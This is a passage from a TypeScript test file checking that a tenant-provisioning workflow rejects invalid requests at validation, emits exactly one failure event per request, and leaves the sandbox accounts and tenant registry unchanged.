      expect(run.errorMessage, where).toContain(`${c.path || '(root)'}: `);
    }
  });

  it('never gets past ValidateRequest: no AcquireTenant, nothing compensated; one failure event each', () => {
    const allowed = new Set(['Init', 'ValidateRequest', 'RequestTenantId', 'FailureTenantId', 'FailureWithoutTenantId', 'NotifyFailure', 'Failed']);
    for (const { c, run } of runs) {
      const where = `${c.family} / ${c.label}`;
      const entered = run.history.filter((e) => e.type.endsWith('StateEntered')).map((e) => e.state ?? '');
      expect(entered.filter((s) => !allowed.has(s)), where).toEqual([]);
      expect(entered.slice(0, 2), where).toEqual(['Init', 'ValidateRequest']);
      expect(entered.slice(-2), where).toEqual(['NotifyFailure', 'Failed']);
      expect(run.events, where).toHaveLength(1);
      const detail = run.events[0]?.detail as { tenantId: unknown; error: string };
      expect(detail.error, where).toBe('RequestValidationError');
      const raw = c.request as { tenantId?: unknown } | null;
      const tenantId = typeof raw === 'object' && raw !== null && !Array.isArray(raw) && typeof raw.tenantId === 'string' ? raw.tenantId : null;
      expect(detail.tenantId, where).toBe(tenantId);
    }
  });

  it('leaves the sandbox (every account, the tenant registry) and Palette exactly as they were', async () => {
    expect(runs.length).toBe(cases.length);
    expect(await world()).toEqual(before);
  });

});
